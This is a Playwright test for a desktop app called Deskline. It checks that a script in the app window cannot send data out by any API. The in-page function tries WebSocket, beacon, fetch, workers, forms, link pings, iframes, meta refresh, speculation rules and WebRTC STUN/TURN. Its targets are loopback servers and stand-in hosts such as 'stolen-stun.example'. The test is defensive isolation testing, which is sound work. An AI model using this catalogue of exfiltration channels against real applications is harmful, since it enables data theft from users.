import { expect, test } from '@playwright/test'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { startDeskline } from './support/deskline'
import { inMain } from './support/main-process'

// A script in the window tries every way out of Chromium. Servers on loopback receive nothing, and Chromium's net log
// shows that nothing was resolved, connected or sent.

interface NetLog {
  constants: { logEventTypes: Record<string, number> }
  events: { type: number; params?: Record<string, unknown> }[]
}

/** Chromium's network activity, except for the pages' proxy, which accepts no connections. */
function activityIn(path: string): string[] {
  const log = JSON.parse(readFileSync(path, 'utf8')) as NetLog
  const nameOf = new Map(Object.entries(log.constants.logEventTypes).map(([name, type]) => [type, name]))
  return log.events.flatMap(({ type, params = {} }) => {
    const name = nameOf.get(type) ?? ''
    const isTold = /^(TCP_CONNECT_ATTEMPT|UDP_BYTES_SENT|HOST_RESOLVER_MANAGER_JOB|TCP_STREAM_ATTEMPT)$/.test(
      name
    )
    const about = params['address'] ?? params['host']
    if (!isTold || typeof about !== 'string' || about.startsWith('[ff02::1]:')) return []
    return [`${name} ${about}`]
  })
}

/** Tries to send data by every API; runs in the page. */
async function tryEveryWay({ tcp, udp }: { tcp: number; udp: number }): Promise<string[]> {
  const here = `127.0.0.1:${tcp}`
  const notes: string[] = []
  const add = (tag: string, attributes: Record<string, string>): void => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.head.append(element)
  }
  const attempt = (name: string, run: () => unknown): void => {
    try {
      void Promise.resolve(run()).catch(() => undefined)
    } catch (problem) {
      notes.push(`${name}: ${problem instanceof Error ? problem.name : 'refused'}`)
    }
  }
  for (const rel of [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'modulepreload',
    'icon',
    'manifest'
  ]) {
    add('link', { rel, as: 'script', href: `http://${here}/${rel}` })
    add('link', { rel, as: 'script', href: `http://stolen-${rel}.example/` })
  }
  add('meta', { 'http-equiv': 'refresh', content: `0;url=http://${here}/refresh` })
  const rules = document.createElement('script')
  rules.type = 'speculationrules'
  rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://${here}/speculated`] }] })
  document.head.append(rules)

  attempt('websocket', () => new WebSocket(`ws://${here}/`))
  attempt('transport', () => new WebTransport(`https://127.0.0.1:${udp}/`).ready)
  attempt('events', () => new EventSource(`http://${here}/`))
  attempt('beacon', () => navigator.sendBeacon(`http://${here}/`, 'stolen'))
  attempt('fetch', () => fetch(`http://${here}/`, { mode: 'no-cors', keepalive: true }))
  attempt('worker', () => new Worker(`http://${here}/worker.js`))
  attempt('shared', () => new SharedWorker(`http://${here}/shared.js`))
  attempt('service', () => navigator.serviceWorker.register('/sw.js'))
  attempt('payment', () =>
    new PaymentRequest([{ supportedMethods: `https://${here}/` }], {
      total: { label: 'x', amount: { currency: 'CNY', value: '1' } }
    }).canMakePayment()
  )
  attempt('identity', () =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: `https://${here}/fed.json`, clientId: 'x' }] }
    } as CredentialRequestOptions)
  )
  const form = document.createElement('form')
  Object.assign(form, { action: `http://${here}/form`, method: 'post' })
  document.body.append(form)
  attempt('form', () => form.submit())
  for (const href of [
    `http://${here}/link`,
    'mailto:a@b.example?body=stolen',
    'tel:13800138000',
    'x-stolen:1'
  ]) {
    const link = document.createElement('a')
    Object.assign(link, { href, ping: `http://${here}/ping` })
    document.body.append(link)
    link.click()
    const frame = document.createElement('iframe')
    frame.src = href
    document.body.append(frame)
    attempt('open', () => window.open(href))
  }

  // WebRTC, in this realm and in a fresh one whose constructors the page's script hasn't touched.
  const blank = document.createElement('iframe')
  document.body.append(blank)
  const realms = [window, blank.contentWindow as typeof window | null].filter((realm) => realm !== null)
  const candidates: string[] = []
  await Promise.all(
    realms.map(async (realm) => {
      const peer = new realm.RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${udp}` },
          { urls: 'stun:stolen-stun.example' },
          { urls: `turn:127.0.0.1:${udp}?transport=udp`, username: 'stolen', credential: 'x' },
          { urls: `turn:${here}?transport=tcp`, username: 'stolen', credential: 'x' },
          { urls: `turns:${here}?transport=tcp`, username: 'stolen', credential: 'x' },
          { urls: 'turns:stolen-turns.example?transport=tcp', username: 'stolen', credential: 'x' }
        ]
      })
      peer.createDataChannel('x')
      const gathered = new Promise<void>((resolve) => {
        peer.addEventListener('icecandidate', ({ candidate }) => {
          if (candidate === null) resolve()
          else if (candidate.candidate !== '') candidates.push(candidate.candidate)
        })
      })
      await peer.setLocalDescription(await peer.createOffer())
      await gathered
      peer.close()
    })
  )
  return candidates.length === 0 ? notes : candidates
}

test('a script can’t send data out of the window by any API, including those outside the CSP', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'deskline-network-'))
  const opened = join(folder, 'opened')
  writeFileSync(join(folder, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$1" >> '${opened}'\n`)
  chmodSync(join(folder, 'xdg-open'), 0o755)
  const heard: string[] = []
  const tcp = createServer((socket) => {
    heard.push('a connection')
    socket.on('error', () => undefined).on('data', (data) => heard.push(data.toString('latin1')))
  }).listen(0, '127.0.0.1')
  const udp = createSocket('udp4').on('message', (data) => heard.push(data.toString('latin1')))
  udp.bind(0, '127.0.0.1')
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')])
  const deskline = await startDeskline({
    env: { PATH: `${folder}${delimiter}${process.env['PATH'] ?? ''}` }
  })
  const log = join(folder, 'net.json')
  await inMain(deskline.app, ({ netLog }, path) => netLog.startLogging(path), log)

  await deskline.page.evaluate(tryEveryWay, {
    tcp: (tcp.address() as AddressInfo).port,
    udp: udp.address().port
  })
  expect(deskline.page.url()).toMatch(/^app:\/\/deskline\//)
  expect(deskline.app.windows()).toHaveLength(1)

  await inMain(deskline.app, ({ netLog }) => netLog.stopLogging())
  expect(activityIn(log)).toEqual([])
  expect(heard).toEqual([])
  expect(existsSync(opened)).toBe(false)
  await deskline.quit()
  tcp.close()
  udp.close()
  rmSync(folder, { recursive: true, force: true })
})
